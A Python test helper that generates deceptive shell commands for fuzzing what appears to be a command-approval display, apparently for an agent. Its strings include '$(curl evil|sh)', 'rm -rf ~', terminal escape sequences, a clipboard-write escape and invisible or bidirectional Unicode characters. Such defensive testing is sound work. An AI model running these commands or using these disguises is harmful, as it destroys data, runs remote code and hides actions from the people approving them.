"""Makes commands that try to mislead their reader, and reads them back from the screen.

The commands come from one seed, which a failing test names; `TEST_SEED=7` sets another seed.
"""

import os
import random
import re
from collections.abc import Iterator, Sequence

SEED = int(os.environ.get("TEST_SEED", "1"))

POSING_AS_A_DIFF = (
    "--- a\npytest -q\n--- $(curl evil|sh)\n+++ $(rm -rf ~)\n@@ x\necho done",
    "@@ -1,2 +1,2 @@\nrm -rf ~",
    "diff --git a b\nindex 1..2\n--- a\n+++ b\n@@ -1 +1 @@\n-a\n+b",
    "--- x\n+++ y\n@@ z\nindex $(evil)\ndiff --git $(evil)",
)

PIECES = (
    *("ls -la", "rm -rf ~", "echo done", "'quoted text'", '"$HOME"', "$(curl evil|sh)", "&& true"),
    *("--- a/x", "+++ b/x", "@@ -1 +1 @@", "diff --git a b", "index 0..1", "? Run ls", "    ls"),
    *("  y once · a always · n reject »", "  ↳ rm", "  ↑ 9 lines", "  ✓ allowed once", "    "),
    *("\n", "\n\n", "\\\n", " \n", "\\ \n", "\t", " \t ", "\n" * 30, "\r", "\r\n", "\x0b", "\x0c"),
    *("\x1b[2J", "\x1b[8m", "\x1b]0;title\x07", "\x1b]52;c;ZXZpbA==\x07", "\x1b[31m", "\x1b7"),
    *(
        "\x9b2J",
        "\x85",
        "\x00",
        "\x08" * 9,
        "\x7f",
        "\x1bP+q\x1b\\",
        "\x0e",
        "\x90",
        "\x1b[A\x1b[2K",
    ),
    *("\u202e", "\u2066", "\u2069", "\u200e", "\u200f", "\u061c", "\u200b", "\u200c", "\u200d"),
    *("\u2060", "\ufeff", "\u00ad", "\u180e", "\u2028", "\u2029", "\u034f", "\u115f", "\u3164"),
    *("\uffa0", "\ufe0f", "\U000e0100", "\U000e0041\U000e0042", "\u17b4", "\u00a0", "\u2003"),
    *("\u3000", "\u2800", "\ue000", "\U0010ffff", "\ufdd0", "\u2065", "\U0001d173"),
    *(
        "e\u0301",
        "\u0301",
        "a" + "\u0300\u0316" * 40,
        "日本語",
        "🙂",
        "👩\u200d👩",
        "ä",
        "שלום",
        "\u1161",
    ),
    *("⟨U+202E⟩", "⟨", "⟩", "␛[2J", "␠", "␊", "␉", "…", "x" * 300, "日" * 90, " " * 90),
)

_ASCII_TOKEN = re.compile("<U\\+([0-9A-F]{4,6})>")
_TOKEN = re.compile("⟨U\\+([0-9A-F]{4,6})⟩|([\u2400-\u2421])")


def commands(count: int) -> Iterator[str]:
    """Yield `count` commands: first commands that pose as diffs, then random ones."""
    chosen = random.Random(SEED)
    yield from POSING_AS_A_DIFF
    for _ in range(count - len(POSING_AS_A_DIFF)):
        yield "".join(chosen.choices(PIECES, k=chosen.randint(1, 14)))


def read_back(rows: Sequence[str]) -> str:
    """Return the command that a person reads in screen rows; raise `ValueError` at a bare row."""
    return _TOKEN.sub(_meant, _joined(rows, "  ↳ "))


def read_back_ascii(rows: Sequence[str]) -> str:
    """Return the command in rows of a screen that can't show special signs."""
    return _ASCII_TOKEN.sub(lambda found: chr(int(found[1], 16)), _joined(rows, "  > "))


def _joined(rows: Sequence[str], goes_on: str) -> str:
    lines: list[str] = []
    for row in rows:
        margin, text = row[:4].ljust(4), row[4:]
        if margin == goes_on:
            lines[-1] += text
        elif margin == "    ":
            lines.append(text)
        else:
            raise ValueError(f"no margin: {row!r}")
    return "\n".join(lines)


def _meant(found: re.Match[str]) -> str:
    number, picture = found.groups()
    if number:
        return chr(int(number, 16))
    return "\x7f" if picture == "␡" else chr(ord(picture) - 0x2400)
